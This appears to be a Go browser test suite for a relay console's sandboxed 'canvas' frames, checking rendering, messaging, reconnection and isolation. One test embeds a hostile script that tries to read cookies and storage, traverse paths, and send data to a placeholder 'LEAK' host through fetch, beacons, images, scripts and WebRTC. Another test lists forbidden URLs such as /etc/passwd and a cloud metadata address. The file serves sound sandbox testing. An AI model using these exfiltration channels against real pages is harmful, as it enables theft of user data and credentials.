//go:build !race

package browser_test

import (
	"bytes"
	"context"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"ahprelay/agenthost"
	"ahprelay/test/hostrpc"
)

// canvasSession is a session in which a canvas is open from the start.
const canvasSession = "demo:/notes"

// demoCanvases are canvases for every demo host. They include canvases with several
// pages and with hostile content.
var demoCanvases = []hostrpc.Canvas{
	{ID: "notes"},
	{ID: "notes-loopback", Mode: agenthost.CanvasLoopback},
	{ID: "pages", Files: fstest.MapFS{
		"index.html": {Data: []byte(`<!doctype html><p>First</p><a id=next href="more/second.html">Next</a><a id=away href="https://example.invalid/">Away</a>`)},
		"more/second.html": {Data: []byte(`<!doctype html><p>Second</p><img id=img src="/pic.svg"><style>p { background: url("../pic.svg") }</style>` +
			`<script type="importmap">{"imports": {"lib/": "../lib/"}}</script>` +
			`<script type="module">import { name } from "lib/name.mjs"; document.body.dataset.name = name + " " + new URL("x", import.meta.url);</script>`)},
		"lib/name.mjs": {Data: []byte(`export const name = "named";`)},
		"pic.svg":      {Data: []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"><rect width="7" height="7"/></svg>`)},
	}},
}

// hostileCanvas is a canvas that tries forbidden operations. It reports each result as
// a line in its title.
const hostileCanvas = `<!doctype html><title>working</title><p>I am hostile.</p>
<script>
const got = [];
const attempt = async (name, work) => {
  try { got.push(name + ": " + await work()); } catch { got.push(name + ": refused"); }
  document.title = got.join("\n");
};
const event = (target) => new Promise((done, fail) => { target.onload = target.onopen = () => done("loaded"); target.onerror = fail; });
(async () => {
  await attempt("its own content", async () => (await fetch("data.txt")).text());
  await attempt("origin", () => self.origin);
  await attempt("referrer", () => "<" + document.referrer + ">");
  await attempt("fragment", () => "<" + location.hash + location.search + ">");
  await attempt("cookies", () => document.cookie);
  await attempt("localStorage", () => localStorage.length);
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("indexedDB", () => event(indexedDB.open("x")));
  await attempt("parent document", () => parent.document.title);
  await attempt("parent address", () => parent.location.href);
  await attempt("parent history", () => parent.history.length);
  await attempt("api", async () => (await fetch("http://" + location.host + "/api/hosts?leak")).status);
  await attempt("web", async () => (await fetch("http://LEAK/fetch")).status);
  await attempt("beacon", () => navigator.sendBeacon("http://LEAK/beacon") ? "sent" : Promise.reject());
  await attempt("foreign instance", async () => (await fetch("ahp-canvas-content:/notes-1/index.html")).text());
  await attempt("traversal", async () => { const r = await fetch("%2e%2e/notes-1/index.html"); return r.ok ? r.text() : Promise.reject(); });
  await attempt("socket", () => event(new WebSocket("ws://" + location.host + "/ahp/demo")));
  await attempt("image", () => event(Object.assign(new Image(), { src: "http://LEAK/image" })));
  await attempt("script", () => event(document.body.appendChild(Object.assign(document.createElement("script"), { src: "http://LEAK/script" }))));
  await attempt("module", () => import("http://LEAK/module"));
  await attempt("style", () => event(document.head.appendChild(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "http://LEAK/style" }))));
  await attempt("window", () => window.open("http://LEAK/window") ? "open" : Promise.reject());
  await attempt("top", () => { top.location = "http://LEAK/top"; return "navigated"; });
  const peer = async (w = self) => {
    const peer = new w.RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] });
    peer.createDataChannel("leak");
    await peer.setLocalDescription(await peer.createOffer());
    return "gathering";
  };
  await attempt("peer", () => peer());
  await attempt("peer of a frame", () => peer(document.body.appendChild(document.createElement("iframe")).contentWindow));
  const inner = document.body.appendChild(Object.assign(document.createElement("iframe"), { src: "http://LEAK/frame" }));
  await attempt("frame", () => inner.contentDocument.title);
})();
</script>`

// hostileGot is the report that hostileCanvas must give. A path below the canvas's
// document belongs to the canvas's content, which has no such file. Browsers report a
// blocked beacon as sent.
const hostileGot = `its own content: its own
origin: null
referrer: <>
fragment: <>
cookies: refused
localStorage: refused
sessionStorage: refused
indexedDB: refused
parent document: refused
parent address: refused
parent history: refused
api: 404
web: refused
beacon: sent
foreign instance: refused
traversal: refused
socket: refused
image: refused
script: refused
module: refused
style: refused
window: refused
top: refused
peer: refused
peer of a frame: refused
frame: refused`

// attachTime limits the wait for an answer from a frame, which may be closing.
const attachTime = 10 * time.Second

// frame waits for a sandboxed frame with an address that ends with suffix. It returns the
// frame as a page.
func (p *page) frame(suffix string) *page {
	p.t.Helper()
	return p.newFrame(suffix, "true")
}

// newFrame waits for a frame with an address that ends with suffix and in which condition
// holds. It returns the frame. A frame with the same address may still be closing.
func (p *page) newFrame(suffix, condition string) (f *page) {
	p.t.Helper()
	return p.newTarget("iframe", suffix, condition)
}

// newTarget is newFrame for any kind of target, such as a tab ("page") or a service
// worker.
func (p *page) newTarget(kind, suffix, condition string) (f *page) {
	p.t.Helper()
	p.until("a "+kind+" "+suffix+" in which "+condition, patience, func() bool {
		infos, err := p.targets()
		if err != nil {
			p.t.Fatal(err)
		}
		for _, info := range infos {
			if info.Type == kind && strings.HasSuffix(info.URL, suffix) && f == nil {
				f = p.attach(info.TargetID, condition)
			}
		}
		return f != nil
	})
	return f
}

// attach connects to a frame. It returns nil if condition does not hold there, or if
// the frame closes.
func (p *page) attach(id target.ID, condition string) *page {
	ctx, cancel := chromedp.NewContext(p.ctx, chromedp.WithTargetID(id), chromedp.WithDetachOnCancel())
	leave := time.AfterFunc(attachTime, cancel)
	holds, err := chromedp.Run(ctx, chromedp.Evaluate[bool](condition))
	if !leave.Stop() || err != nil || !holds {
		cancel()
		return nil
	}
	p.t.Cleanup(cancel)
	return &page{t: p.t, ctx: ctx, own: p.own, top: p}
}

// openCanvas opens a canvas at the host, and shows it on the page. It returns the
// canvas's channel.
func (p *page) openCanvas(s *site, id string) (channel string) {
	p.t.Helper()
	channel, err := s.host.OpenCanvas(canvasSession, id)
	if err != nil {
		p.t.Fatal(err)
	}
	p.click(`[data-canvas="` + channel + `"] button`)
	return channel
}

// canvasPage starts a stack and opens its session with canvases on a page.
func canvasPage(t *testing.T, cfg stackConfig) (*page, *site) {
	t.Helper()
	p := newPage(t)
	s := startStackWith(t, cfg)
	p.do(desktop(), colours("light"), chromedp.Navigate(s.console(s.token(time.Hour))))
	p.openSession(canvasSession)
	name := "Notes"
	if cfg.protocol != "" {
		name = "Canvas" // with this protocol, the list shows no names
	}
	p.wants("#canvases", name)
	return p, s
}

// colourAt returns the colour that the screen shows at an offset from an element's
// upper left corner.
func (p *page) colourAt(selector string, x, y int) color.RGBA {
	p.t.Helper()
	data, err := chromedp.Run(p.ctx, chromedp.CaptureScreenshot())
	if err != nil {
		p.t.Fatal(err)
	}
	img, err := png.Decode(bytes.NewReader(data))
	if err != nil {
		p.t.Fatal(err)
	}
	box := "document.querySelector(" + strconv.Quote(selector) + ").getBoundingClientRect()"
	at := image.Pt(int(eval[float64](p, box+".left"))+x, int(eval[float64](p, box+".top"))+y)
	r, g, b, a := img.At(at.X, at.Y).RGBA()
	return color.RGBA{uint8(r >> 8), uint8(g >> 8), uint8(b >> 8), uint8(a >> 8)}
}

// TestCanvasRendersThroughTheRelay shows an application with many files, of a host that
// the browser cannot reach. All files come through the relay.
func TestCanvasRendersThroughTheRelay(t *testing.T) {
	t.Parallel()
	p, s := canvasPage(t, stackConfig{})
	p.click("#canvases button")
	p.wants("#canvas-badge", "ready")
	f := p.frame("/canvas-inband.html")
	f.wantsNotes("notes-1")
	f.wants("#notes", "Mention the new search.")
	for script, want := range map[string]string{
		"getComputedStyle(document.querySelector('#state')).backgroundColor":                                       "rgb(10, 120, 90)", // @import
		"getComputedStyle(document.body).backgroundImage.slice(0, 14)":                                             `url("blob:null/`[:14],
		"String(document.querySelector('#logo').naturalWidth)":                                                     "32",
		"String(document.styleSheets.length)":                                                                      "1",
		"performance.getEntriesByType('resource').map((e) => e.name).filter((n) => !n.startsWith('blob:')).join()": "",
	} {
		if got := eval[string](f, script); got != want {
			t.Errorf("%s = %q; want %q", script, got, want)
		}
	}
	// The picture on the screen shows the logo, and the tiles behind the text.
	p.until("the logo's edge", patience, func() bool { return p.colourAt("#canvas-frame", 14, 14) == color.RGBA{200, 30, 60, 255} })
	if got := p.colourAt("#canvas-frame", 28, 28); got != (color.RGBA{20, 60, 200, 255}) {
		t.Errorf("the logo's middle is %v; want blue", got)
	}
	if got := p.colourAt("#canvas-frame", 4, 100); got != (color.RGBA{255, 240, 205, 255}) {
		t.Errorf("the ground is %v; want the tile's colour", got)
	}

	// The canvas and the agent send each other messages. The console ignores a message
	// that another window has forged.
	eval[any](p, "postMessage({type: 'add', text: 'forged'}, '*')")
	eval[any](f, "document.querySelector('#text').value = 'Thank the testers.'; document.querySelector('#add').click()")
	f.wants("#notes", "Thank the testers.")
	p.wants("#canvas-status", "2 notes")
	if strings.Contains(f.text("#notes"), "forged") {
		t.Error("the canvas's provider received a message which the page posted to itself; want none")
	}
	channel := s.host.canvas(t)
	must(t, s.host.MessageCanvas(channel, map[string]any{"from": "the agent"}))
	f.wants("#check-message", `{"from":"the agent"}`)
	p.shot("canvas")

	// A new title changes only the title. A new address loads a new document.
	must(t, s.host.UpdateCanvas(channel, map[string]any{"title": "Notes for 2.4", "status": nil}))
	p.wants("#canvas-title", "Notes for 2.4")
	p.wants("#canvases", "Notes for 2.4")
	p.until("the status to be cleared", patience, func() bool { return p.text("#canvas-status") == "" })
	f.wants("#check-message", "the agent")
	must(t, s.host.UpdateCanvas(channel, nil))
	p.wants("#canvas-status", "Round 2")
	f = p.newFrame("/canvas-inband.html", "document.querySelector('#checks') !== null && !document.querySelector('#check-message')")
	f.wants("#state", "2 notes")

	// The canvas's provider leaves and returns.
	must(t, s.host.StaleCanvas(channel))
	p.wants("#canvas-badge", "stale")
	p.wants("#canvases", "stale")
	p.holds("a word about it", "document.querySelector('#canvas-stale').checkVisibility()")
	f.wants("#notes", "Thank the testers.") // the old content stays visible
	p.shot("canvas-stale")
	eval[any](f, "window.mark = 1")
	must(t, s.host.ReadyCanvas(channel))
	p.wants("#canvas-badge", "ready")
	p.holds("no word about it", "document.querySelector('#canvas-stale').hidden")
	f = p.newFrame("/canvas-inband.html", "document.querySelector('#checks') !== null && !window.mark")
	f.wants("#state", "2 notes")

	// On a phone, the canvas fills the page. Then the host closes it.
	p.do(phone())
	p.until("the canvas alone", patience, func() bool {
		return eval[bool](p, "document.querySelector('#canvas').checkVisibility() && !document.querySelector('#log').checkVisibility()")
	})
	p.click("#canvas-hide")
	p.wants("#turns", "Search understands quotes now.")
	p.click("#canvases button")
	p.click("#canvas-close")
	p.until("the canvas to go", patience, func() bool {
		return eval[bool](p, "document.querySelector('#canvases').hidden && document.querySelector('#canvas').hidden")
	})
	if eval[bool](p, "document.querySelector('iframe') !== null") {
		t.Error("the frame of a closed canvas is in the page; want it removed")
	}
}

// wantsNotes waits until every feature of the notes application works, for a canvas
// with this instance.
func (p *page) wantsNotes(instance string) {
	p.t.Helper()
	p.wantsContent()
	p.wants("#check-pong", instance) // the provider answers the canvas
	p.wants("#state", "note")        // modules that import each other work, and so do messages to the host
}

// wantsContent waits until the application has loaded all of its files.
func (p *page) wantsContent() {
	p.t.Helper()
	for check, want := range map[string]string{
		"classic": "true",                 // a script that runs before the body is there
		"fetch":   "Notes of this canvas", // a JSON file
		"missing": "404",
		"xhr":     "Notes of this canvas",
		"import":  "late",    // a module that is imported later
		"image":   "32 × 32", // a picture that a script adds
	} {
		p.wants("#check-"+check, want)
	}
}

// TestCanvasOfLoopback shows an application at an address on the host's loopback
// interface. The host itself serves no file of it.
func TestCanvasOfLoopback(t *testing.T) {
	t.Parallel()
	p, s := canvasPage(t, stackConfig{})
	channel := p.openCanvas(s, "notes-loopback")
	f := p.frame("/canvas-inband.html")
	f.wantsNotes("notes-loopback-2")
	must(t, s.host.StaleCanvas(channel)) // a canvas without its provider has no address
	p.wants("#canvas-badge", "stale")
	f.wants("#state", "0 notes")
	eval[any](f, "window.mark = 1")
	must(t, s.host.ReadyCanvas(channel))
	p.wants("#canvas-badge", "ready")
	p.newFrame("/canvas-inband.html", "document.querySelector('#checks') !== null && !window.mark").wantsNotes("notes-loopback-2")
}

// TestCanvasAsRegistered shows canvases with the protocol of AHP since 0.10. There the
// chat lists the canvases, and their content is on the host's loopback interface. Only
// the agent can close a canvas.
func TestCanvasAsRegistered(t *testing.T) {
	t.Parallel()
	for _, protocol := range []agenthost.Protocol{agenthost.Protocol010, agenthost.Protocol11} {
		for _, byURL := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s by URL %t", protocol, byURL), func(t *testing.T) {
				p, s := canvasPage(t, stackConfig{protocol: protocol, byURL: byURL})
				channel := p.openCanvas(s, "notes-loopback")
				address, loaded := "/canvas-inband.html", "document.querySelector('#checks') !== null"
				if byURL {
					address, loaded = "/index.html", loaded+" && location.hostname.endsWith('.localhost')"
				}
				f := p.newFrame(address, loaded)
				f.wantsContent()
				p.holds("no way to close it", "document.querySelector('#canvas-close').hidden")
				p.shot(fmt.Sprintf("canvas-registered-%s-%t", protocol, byURL))
				eval[any](f, "window.mark = 1")
				must(t, s.host.StaleCanvas(channel)) // a canvas without its provider has no address
				p.wants("#canvas-badge", "stale")
				must(t, s.host.ReadyCanvas(channel))
				if byURL {
					address += "?round=2"
				}
				p.newFrame(address, loaded+" && !window.mark").wantsContent()
				must(t, s.host.CloseCanvas(channel))
				p.holds("the canvas to go", "document.querySelector('#canvas').hidden")
			})
		}
	}
}

// TestCanvasByURL shows an application at its own origin. It still works after the
// console's connection has ended.
func TestCanvasByURL(t *testing.T) {
	t.Parallel()
	for _, id := range []string{"notes", "notes-loopback"} {
		t.Run(id, func(t *testing.T) {
			p, s := canvasPage(t, stackConfig{byURL: true})
			p.openCanvas(s, id)
			f := p.newFrame("/index.html", "location.hostname.endsWith('.localhost') && document.querySelector('#checks') !== null")
			f.wantsNotes(id + "-2")
			if got := eval[string](f, "String(document.querySelector('#logo').naturalWidth) + ' ' + (self.origin === location.origin) + ' ' + document.cookie"); got != "32 true " {
				t.Errorf("logo, origin and cookies: %q; want 32 pixels, its own, and none", got)
			}
			eval[any](f, keeps)
			f.until("storage of its own, and nothing of the console", patience, func() bool { return eval[string](f, "document.body.dataset.keeps ?? ''") == "kept true, refused" })
			if got := eval[bool](f, "[...performance.getEntriesByType('resource')].every((e) => new URL(e.name).host === location.host)"); !got {
				t.Error("the canvas has loaded a resource from a different host; want its own only")
			}
			p.until("the logo's edge", patience, func() bool { return p.colourAt("#canvas-frame", 14, 14) == color.RGBA{200, 30, 60, 255} })
			eval[any](f, "document.querySelector('#text').value = 'Thank the testers.'; document.querySelector('#add').click()")
			f.wants("#notes", "Thank the testers.")
			p.shot("canvas-by-url-" + id)
			eval[any](f, "document.querySelector('#text').value = 'half a'")
			p.drop(s, func() {})
			eval[any](f, "document.querySelector('#text').value += ' sentence'; document.querySelector('#add').click()")
			f.wants("#notes", "half a sentence")
			eval[any](f, "fetch('style.css').then((r) => { document.body.dataset.status = r.status; }); 0")
			f.until("a file after the drop", patience, func() bool { return eval[string](f, "document.body.dataset.status ?? ''") == "200" })
		})
	}
}

// keeps is a script for a page with its own origin. It tries permitted and forbidden
// operations.
const keeps = `(async () => {
	localStorage.setItem('a', 'kept');
	const db = await new Promise((done) => { indexedDB.open('x').onsuccess = () => done(true); });
	let parent = 'refused';
	try { parent = window.parent.document.title; } catch {}
	document.body.dataset.keeps = localStorage.getItem('a') + ' ' + db + ', ' + parent;
})(); 0`

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// TestCanvasReachesNothingElse shows a canvas that attacks the console, other canvases
// and the network. No attack succeeds.
func TestCanvasReachesNothingElse(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var leaks []string
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		leaks = append(leaks, r.URL.Path)
	}))
	t.Cleanup(web.Close)
	stun, err := net.ListenPacket("udp", "127.0.0.1:0")
	must(t, err)
	t.Cleanup(func() { stun.Close() })
	hostile := strings.NewReplacer("LEAK", web.Listener.Addr().String(), "STUN", stun.LocalAddr().String()).Replace(hostileCanvas)
	testCanvas := hostrpc.Canvas{ID: "hostile", Files: fstest.MapFS{
		"index.html": {Data: []byte(hostile)},
		"data.txt":   {Data: []byte("its own")},
	}}
	p := newPage(t)
	p.hostile = true
	s := startStackWith(t, stackConfig{canvases: []hostrpc.Canvas{testCanvas}})
	p.do(desktop(), chromedp.Navigate(s.console(s.token(time.Hour))))
	eval[any](p, "document.cookie = 'secret=1'; localStorage.setItem('secret', '1')")
	p.openSession(canvasSession)
	p.wants("#canvases", "Notes")
	p.openCanvas(s, "hostile")
	f := p.frame("/canvas-inband.html")
	f.wants("title", "\nframe: ")
	if got := f.text("title"); got != hostileGot {
		t.Errorf("a hostile canvas got\n%s\nwant\n%s", got, hostileGot)
	}
	p.shot("canvas-hostile")

	// The canvas navigates its frame to another server. The browser blocks this.
	f.leave("setTimeout(() => { location = 'http://" + web.Listener.Addr().String() + "/navigated'; })")
	p.until("the frame to be refused", patience, func() bool {
		infos, err := p.targets()
		return err == nil && !slices.ContainsFunc(infos, func(i *target.Info) bool { return strings.HasSuffix(i.URL, "/canvas-inband.html") })
	})
	must(t, stun.SetReadDeadline(time.Now().Add(time.Second)))
	if n, _, err := stun.ReadFrom(make([]byte, 1500)); err == nil {
		t.Errorf("the canvas sent %d bytes to a STUN server; want none", n)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(leaks) > 0 {
		t.Errorf("the canvas reached the network: %q; want no requests", leaks)
	}
}

// TestCanvasFollowsItsLinks clicks links inside a canvas. It also loads files by paths
// from the root, by relative paths and by an import map.
func TestCanvasFollowsItsLinks(t *testing.T) {
	t.Parallel()
	p, s := canvasPage(t, stackConfig{})
	p.openCanvas(s, "pages")
	f := p.frame("/canvas-inband.html")
	f.wants("p", "First")
	eval[any](f, "document.querySelector('#away').click()")
	f.wants("p", "First")
	eval[any](f, "setTimeout(() => document.querySelector('#next').click(), 2000)") // the click replaces the frame's document, which must not happen before this call returns
	f = p.newFrame("/canvas-inband.html", "document.querySelector('p')?.textContent === 'Second'")
	f.holds("the picture", "document.querySelector('#img').naturalWidth === 7")
	f.until("the module", patience, func() bool {
		return eval[string](f, "document.body.dataset.name ?? ''") == "named ahp-canvas-content:/pages-2/more/x"
	})
	// The canvas's content is read-only: a POST gets the status 405.
	eval[any](f, "{ const x = new XMLHttpRequest(); x.open('POST', '/pic.svg'); x.onload = () => { document.body.dataset.post = [x.status, x.readyState, x.responseText].join(); }; x.send('a'); } 0")
	f.until("what becomes of a POST", patience, func() bool { return eval[string](f, "document.body.dataset.post ?? ''") == "405,4," })
}

// TestOnlyPermittedCanvasAddressesLoad gives a canvas permitted and forbidden
// addresses. The console loads only the permitted ones.
func TestOnlyPermittedCanvasAddressesLoad(t *testing.T) {
	t.Parallel()
	app := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><p id=got>%s|%s|%s</p><script>
			addEventListener("message", (e) => { if (e.source === parent) document.querySelector("#got").textContent += "|" + e.data; });
			document.querySelector("#got").textContent += "|" + self.origin; parent.postMessage("from the page", "*");</script>`,
			r.Header.Get("Cookie"), r.Header.Get("Authorization"), r.Referer())
	}))
	t.Cleanup(app.Close)
	p, s := canvasPage(t, stackConfig{noLoopback: true})
	p.click("#canvases button")
	p.frame("/canvas-inband.html").wants("#state", "1 note")
	channel := s.host.canvas(t)
	for _, tc := range []struct{ url, why string }{
		{"javascript:alert(1)", "javascript: are not opened"},
		{"file:///etc/passwd", "file: are not opened"},
		{"blob:null/1", "blob: are not opened"},
		{"vscode-webview://x/", "vscode-webview: are not opened"},
		{"http://example.com/", "not safe"},
		{"http://169.254.169.254/latest", "not safe"},
		{s.console(""), "on this relay"},
		{"https://user:secret@example.com/", "a password"},
		{"ahp-canvas-content:/other/index.html", "different canvas"},
		{"not an address", "malformed"},
	} {
		must(t, s.host.UpdateCanvas(channel, map[string]any{"url": tc.url}))
		p.wants("#canvas-note", tc.why)
		if eval[bool](p, "document.querySelector('iframe') !== null") {
			t.Errorf("the page has a frame for %s; want none", tc.url)
		}
		if strings.HasPrefix(tc.url, "file:") {
			p.shot("canvas-refused")
		}
	}
	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": nil}))
	p.wants("#canvas-note", "no address")

	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": "data:text/html,<p id=got>from%20data</p>"}))
	p.newFrame("/canvas-inband.html", "document.querySelector('p')?.textContent === 'from data'")
	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": "ahp-canvas-content:/notes-1/none.html"}))
	p.wants("#canvas-note", "Content not found")
	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": "ahp-canvas-content:/notes-1/img/logo.png"}))
	p.until("the picture alone", patience, func() bool { return p.colourAt("#canvas-frame", 14, 14) == color.RGBA{200, 30, 60, 255} })

	// The console itself runs at a loopback address, so it shows the loopback canvas. The
	// canvas gets no cookie of its site and no message from this page.
	p.do(setCookie(app.URL))
	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": app.URL + "/app"}))
	f := p.frame("/app")
	f.wants("#got", "|||null")
	f.wants("#got", "|[object Object]") // the provider's message came back
	p.shot("canvas-direct")
}

// setCookie sets a site's cookie in the browser.
func setCookie(url string) step {
	return func(ctx context.Context, target *chromedp.Target) (chromedp.Void, error) {
		_, err := cdp.Call(ctx, target, network.SetCookie, network.SetCookieParams{Name: "secret", Value: "1", URL: url})
		return chromedp.Void{}, err
	}
}

// TestCanvasSurvivesADrop cuts the console's connection while a canvas is open. The
// canvas keeps its state.
func TestCanvasSurvivesADrop(t *testing.T) {
	t.Parallel()
	p, s := canvasPage(t, stackConfig{})
	p.click("#canvases button")
	f := p.frame("/canvas-inband.html")
	f.wants("#state", "1 note")
	eval[any](f, "window.mark = 1")
	channel := s.host.canvas(t)
	p.drop(s, func() { must(t, s.host.MessageCanvas(channel, "while away")) })
	f.wants("#check-message", "while away")
	eval[any](f, "document.querySelector('#add').click()")
	f.wants("#state", "2 notes")
	if !eval[bool](f, "window.mark === 1") {
		t.Error("the canvas was reloaded by the drop; want the same document")
	}
	// The host restarts and has new canvases. The console hides the old canvas.
	s.host.kill()
	p.wants("#status-text", "waiting for the host")
	s.host.start()
	p.wants("#status-text", "Live")
	p.holds("the old canvas to go", "document.querySelector('#canvas').hidden")
	p.click("#canvases button")
	p.newFrame("/canvas-inband.html", "document.querySelector('#checks') !== null && !window.mark").wants("#state", "1 note")
}

// canvas returns the channel of the canvas that is open from the start.
func (h *demoHost) canvas(t *testing.T) string {
	t.Helper()
	channels, err := h.Canvases(canvasSession)
	must(t, err)
	if len(channels) == 0 {
		t.Fatal("the session has no open canvas; want one")
	}
	return channels[0]
}
